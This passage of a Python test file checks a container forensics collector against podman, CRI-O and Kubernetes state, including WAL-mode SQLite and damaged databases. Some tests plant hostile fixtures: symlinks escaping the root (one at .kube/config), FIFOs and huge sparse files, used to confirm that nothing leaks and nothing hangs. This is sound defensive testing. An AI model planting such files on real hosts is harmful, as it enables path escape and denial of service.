    assert Bolt(bytes(looped)).bucket(b"ctr") == {} and time.monotonic() - started < 5
    root = node.root.parent / "damaged"
    storage = root / "var/lib/containers/storage"
    shutil.copytree(node.storage / "overlay-containers", storage / "overlay-containers", symlinks=True,
                    ignore=lambda folder, names: [n for n in names if not (os.path.isdir(os.path.join(folder, n))
                                                                         or n.endswith(".json"))])
    (storage / "libpod").mkdir()
    (storage / "libpod/bolt_state.db").write_bytes(os.urandom(8192))
    items = _collect(str(root), False)
    assert any(isinstance(i, Problem) and "bolt" in i.message for i in items)
    assert len(_records(items, "containers")) == 9


def test_hostile_runtime_files(tmp_path):
    """Links out of the root, FIFOs and a huge sparse database where the runtime readers look: Problems or
    nothing, never a hang or a byte from outside the root."""
    from collectors.base import Problem

    secret = "outside-the-root-canary"
    outside = tmp_path / "outside.log"
    outside.write_text(f"2024-01-01T00:00:00.000000001Z stdout F {secret}\n")
    root = tmp_path / "root"
    storage = root / "var/lib/containers/storage"
    (storage / "overlay-containers").mkdir(parents=True)
    os.mkfifo(storage / "overlay-containers/containers.json")
    (storage / "libpod").mkdir()
    os.symlink(outside, storage / "libpod/bolt_state.db")
    logs = root / f"var/log/pods/default_web_{POD_UID}/web"
    logs.mkdir(parents=True)
    os.symlink(outside, logs / "0.log")
    (root / "root/.kube").mkdir(parents=True)
    os.symlink(outside, root / "root/.kube/config")
    (root / "etc/kubernetes/manifests").mkdir(parents=True)
    os.mkfifo(root / "etc/kubernetes/manifests/pod.yaml")
    meta = root / "var/lib/containerd/io.containerd.metadata.v1.bolt"
    meta.mkdir(parents=True)
    with open(meta / "meta.db", "wb") as big:
        big.truncate(4 << 30)  # sparse zeros: no meta page
    started = time.monotonic()
    items = _collect(str(root), False)
    assert time.monotonic() - started < 20
    assert not _records(items, "containers") and not _records(items, "container_logs")
    assert not _records(items, "k8s_pods") and not _records(items, "kubeconfigs")
    assert secret not in json.dumps([getattr(i, "data", None) or getattr(i, "message", "") for i in items])
    problems = {(i.path, i.message.split(":")[0]) for i in items if isinstance(i, Problem)}
    assert problems == {("/var/lib/containers/storage/overlay-containers/containers.json", "cannot read"),
                        ("/etc/kubernetes/manifests/pod.yaml", "cannot read"),
                        ("/var/lib/containerd/io.containerd.metadata.v1.bolt/meta.db", "bolt database not read")}
    assert not [i for i in items if hasattr(i, "fd")]  # nothing copied: no runtime's file was there


def test_cri_o_containers_from_their_storage(node, tmp_path):
    """CRI-O keeps its containers in the same containers-storage, with its own metadata (cri-o
    internal/storage/runtime.go RuntimeContainerMetadata: pod-name, pod-id, image-name, name) and its
    annotations in each OCI spec (io.kubernetes.cri-o.*, io.kubernetes.pod.*), and no libpod database.
    CRI-O is not in Debian: podman's storage is given CRI-O's metadata and annotations."""
    storage = tmp_path / "root/var/lib/containers/storage"
    shutil.copytree(node.storage / "overlay-containers", storage / "overlay-containers", symlinks=True,
                    ignore=lambda folder, names: [n for n in names if not (os.path.isdir(os.path.join(folder, n))
                                                                         or n.endswith(".json"))])
    listing = json.loads((storage / "overlay-containers/containers.json").read_text())
    web = next(c for c in listing if "web" in c["names"])
    web["names"] = ["k8s_web_web-7d4b9c-x2v_shop_0f3c2a9e_0"]
    web["metadata"] = json.dumps({"pod-name": "web-7d4b9c-x2v", "pod-id": "5d1b" * 16, "image-name":
                                  "registry.example/shop/web:1.4", "name": "k8s_web_web-7d4b9c-x2v_shop_0f3c2a9e_0",
                                  "created-at": 1700000000})
    (storage / "overlay-containers/containers.json").write_text(json.dumps(listing))
    spec_path = storage / f"overlay-containers/{web['id']}/userdata/config.json"
    spec = json.loads(spec_path.read_text())
    spec["annotations"] = {"io.kubernetes.cri-o.SandboxID": "5d1b" * 16, "io.kubernetes.cri-o.ContainerType":
                           "container", "io.kubernetes.pod.name": "web-7d4b9c-x2v",
                           "io.kubernetes.pod.namespace": "shop", "io.kubernetes.container.name": "web"}
    spec_path.write_text(json.dumps(spec))
    records = {r["id"]: r for r in _records(_collect(str(tmp_path / "root"), False), "containers")}
    crio = records[web["id"]]
    assert crio["runtime"] == "cri-o" and crio["name"] == "web" and crio["image"] == "registry.example/shop/web:1.4"
    assert crio["pod_name"] == "web-7d4b9c-x2v" and crio["pod_namespace"] == "shop"
    assert {r["runtime"] for i, r in records.items() if i != web["id"]} == {"podman"}


# podman 5's state database: libpod/sqlite_state_internal.go's createSQLiteTables (the tables it reads)
PODMAN_SQLITE_SCHEMA = """
CREATE TABLE IF NOT EXISTS DBConfig(
        ID INTEGER PRIMARY KEY NOT NULL, SchemaVersion INTEGER NOT NULL, OS TEXT NOT NULL, StaticDir TEXT NOT NULL,
        TmpDir TEXT NOT NULL, GraphRoot TEXT NOT NULL, RunRoot TEXT NOT NULL, GraphDriver TEXT NOT NULL,
        VolumeDir TEXT NOT NULL, CHECK (ID IN (1)));
CREATE TABLE IF NOT EXISTS IDNamespace(ID TEXT PRIMARY KEY NOT NULL);
CREATE TABLE IF NOT EXISTS ContainerConfig(
        ID TEXT PRIMARY KEY NOT NULL, Name TEXT UNIQUE NOT NULL, PodID TEXT, JSON TEXT NOT NULL,
        FOREIGN KEY (ID) REFERENCES IDNamespace(ID) DEFERRABLE INITIALLY DEFERRED,
        FOREIGN KEY (ID) REFERENCES ContainerState(ID) DEFERRABLE INITIALLY DEFERRED,
        FOREIGN KEY (PodID) REFERENCES PodConfig(ID));
CREATE TABLE IF NOT EXISTS ContainerState(
        ID TEXT PRIMARY KEY NOT NULL, State INTEGER NOT NULL, ExitCode INTEGER, JSON TEXT NOT NULL,
        FOREIGN KEY (ID) REFERENCES ContainerConfig(ID) DEFERRABLE INITIALLY DEFERRED,
        CHECK (ExitCode BETWEEN -1 AND 255));
CREATE TABLE IF NOT EXISTS PodConfig(ID TEXT PRIMARY KEY NOT NULL, Name TEXT UNIQUE NOT NULL, JSON TEXT NOT NULL);
"""


def _only_files_and_folders(folder: str, names: list[str]) -> list[str]:
    """What copytree leaves out of a podman storage copy: its FIFOs (winsz, ctl) and sockets."""
    return [n for n in names if not (os.path.isdir(os.path.join(folder, n)) or os.path.isfile(os.path.join(folder, n))
                                     or os.path.islink(os.path.join(folder, n)))]


def test_podman5_sqlite_state(node, tmp_path):
    """podman 5's SQLite state (db.sql, podman >= 4.8) in place of bolt_state.db. Documented format (podman's
    schema, libpod/sqlite_state_internal.go), not written by podman 5: bookworm has 4.3. The rows hold the
    ContainerConfig/ContainerState JSON the real podman 4.3 wrote to its bolt database (the same documents).
    The database is in WAL mode, as podman opens it, and the "dormant" container (privileged, host PID,
    never started) is only in the write-ahead log, still open and not checkpointed: the collector applies
    the log to its copy in memory and finds it. Same records and rules as from the bolt database."""
    import sqlite3

    from collectors.files.runtimes import Bolt

    storage = tmp_path / "var/lib/containers/storage"
    for part in ("overlay-containers", "overlay-images"):
        shutil.copytree(node.storage / part, storage / part, symlinks=True, ignore=_only_files_and_folders)
    bolt = Bolt((node.storage / "libpod/bolt_state.db").read_bytes())
    rows = []
    for cid in bolt.bucket(b"ctr"):
        entry = bolt.bucket(b"ctr", cid)
        config, state = json.loads(entry[b"config"]), json.loads(entry[b"state"])
        rows.append((cid.decode(), config["name"], json.dumps(config), state.get("state", 0), json.dumps(state)))
    db = sqlite3.connect(storage / "db.sql", isolation_level=None)
    db.execute("PRAGMA journal_mode = WAL")
    db.executescript(PODMAN_SQLITE_SCHEMA)
    db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    db.execute("PRAGMA wal_autocheckpoint = 0")  # the last transaction stays in db.sql-wal while we read

    def insert(row: tuple) -> None:
        db.execute("BEGIN")
        db.execute("INSERT INTO IDNamespace VALUES (?)", (row[0],))
        db.execute("INSERT INTO ContainerConfig VALUES (?, ?, NULL, ?)", row[:3])
        db.execute("INSERT INTO ContainerState VALUES (?, ?, NULL, ?)", (row[0], row[3], row[4]))
        db.execute("COMMIT")

    for row in rows:
        if row[1] != "dormant":
            insert(row)
    db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    insert(next(r for r in rows if r[1] == "dormant"))
    try:
        assert (storage / "db.sql-wal").stat().st_size > 0
        plain = sqlite3.connect(f"file:{storage / 'db.sql'}?mode=ro&immutable=1", uri=True)
        assert [n for (n,) in plain.execute("SELECT Name FROM ContainerConfig")].count("dormant") == 0
        plain.close()
        items = _collect("/", False, docker_roots=[], storage_roots=[str(storage)], rootless_storage=False,
                         containerd_tasks=[], manifests=[], kubelet_pods="/nonexistent", pod_logs="/nonexistent",
                         kubeconfigs=[])
        wal_size = (storage / "db.sql-wal").stat().st_size
    finally:
        db.close()
    assert wal_size > 0  # the collector wrote nothing beside the host's database, and took no lock
    from collectors.base import FileCopy, Problem
    assert not [i for i in items if isinstance(i, Problem) and i.level in ("warning", "error")], \
        [i.message for i in items if isinstance(i, Problem)]
    records = {r["name"]: r for r in _records(items, "containers")}
    assert len(records) == 9
    dormant, unstarted, helper = records["dormant"], records["never-started"], records["helper"]
    assert dormant["config_path"] == str(storage / "db.sql") and dormant["state"] == "configured"
    assert dormant["privileged"] and dormant["host_pid"] and not dormant["running"]
    assert unstarted["config_path"].endswith("/db.sql") and unstarted["privileged"] is False
    assert helper["privileged"] and helper["mounts_host_root_rw"] and "CAP_SYS_ADMIN" in helper["capabilities"]
    assert records["etcd-log"]["state"] == "exited" and records["etcd-log"]["exit_code"] == 0
    assert records["web"]["image"] == "localhost/local/tools:1" and records["web"]["command"].startswith("/bin/sh -c")
    assert {c.path.rsplit("/", 1)[-1] for c in items if isinstance(c, FileCopy)} >= {"db.sql", "db.sql-wal"}
    found = _findings({"containers": _records(items, "containers")})
    assert {"helper", "dormant"} <= found.get("TRI-CONT-001", set())
    # both databases (a host upgraded to podman 5 keeps using bolt_state.db unless told otherwise): bolt's win
    (storage / "libpod").mkdir()
    shutil.copy(node.storage / "libpod/bolt_state.db", storage / "libpod/bolt_state.db")
    items = _collect("/", False, docker_roots=[], storage_roots=[str(storage)], rootless_storage=False,
                     containerd_tasks=[], manifests=[], kubelet_pods="/nonexistent", pod_logs="/nonexistent",
                     kubeconfigs=[])
    records = {r["name"]: r for r in _records(items, "containers")}
    assert records["dormant"]["config_path"].endswith("/libpod/bolt_state.db") and records["dormant"]["privileged"]


def test_podman5_sqlite_state_damaged(tmp_path):
    """A db.sql that is not SQLite, or cut short: a Problem, never an exception, and the bolt file (when there
    is one) still read."""
    from collectors.base import Context, Problem
    from collectors.files.runtimes import _libpod_state

    storage = tmp_path / "storage"
    storage.mkdir()
    (storage / "db.sql").write_bytes(b"SQLite format 3\0" + b"\xff" * 5000)

    def run() -> tuple[list, object]:
        gen = _libpod_state(Context(root="/", live=False, options={}), str(storage))
        items = []
        try:
            while True:
                items.append(next(gen))
        except StopIteration as stop:
            return items, stop.value
    items, found = run()
    assert found == {}
    assert any(isinstance(i, Problem) and "db.sql" in (i.message + str(i.path)) for i in items)
    (storage / "db.sql").write_bytes(b"garbage" * 100)
    items, found = run()
    assert found == {} and any(isinstance(i, Problem) and "not SQLite" in i.message for i in items)


@pytest.mark.parametrize("kind", ["link", "fifo", "huge"])
def test_hostile_podman5_sqlite_state(tmp_path, kind):
    """podman 5's db.sql as a link out of the root (to a real SQLite database holding a canary), a FIFO, or a
    4 GiB sparse file: no container from it, no byte from outside the root, never a hang."""
    import sqlite3

    secret = "outside-the-root-canary"
    outside = tmp_path / "outside.sql"
    with sqlite3.connect(outside) as db:
        db.execute("CREATE TABLE ContainerConfig (ID TEXT PRIMARY KEY, Name TEXT, JSON TEXT)")
        db.execute("INSERT INTO ContainerConfig VALUES (?, ?, ?)", ("c" * 64, secret, json.dumps({"name": secret})))
    db.close()
    storage = tmp_path / "root/var/lib/containers/storage"
    storage.mkdir(parents=True)
    target = storage / "db.sql"
    if kind == "link":
        os.symlink(outside, target)
    elif kind == "fifo":
        os.mkfifo(target)
    else:
        with open(target, "wb") as big:
            big.truncate(4 << 30)
    started = time.monotonic()
    items = _collect(str(tmp_path / "root"), False)
    assert time.monotonic() - started < 20
    assert not _records(items, "containers")
    assert secret not in json.dumps([getattr(i, "data", None) or getattr(i, "message", "") for i in items])
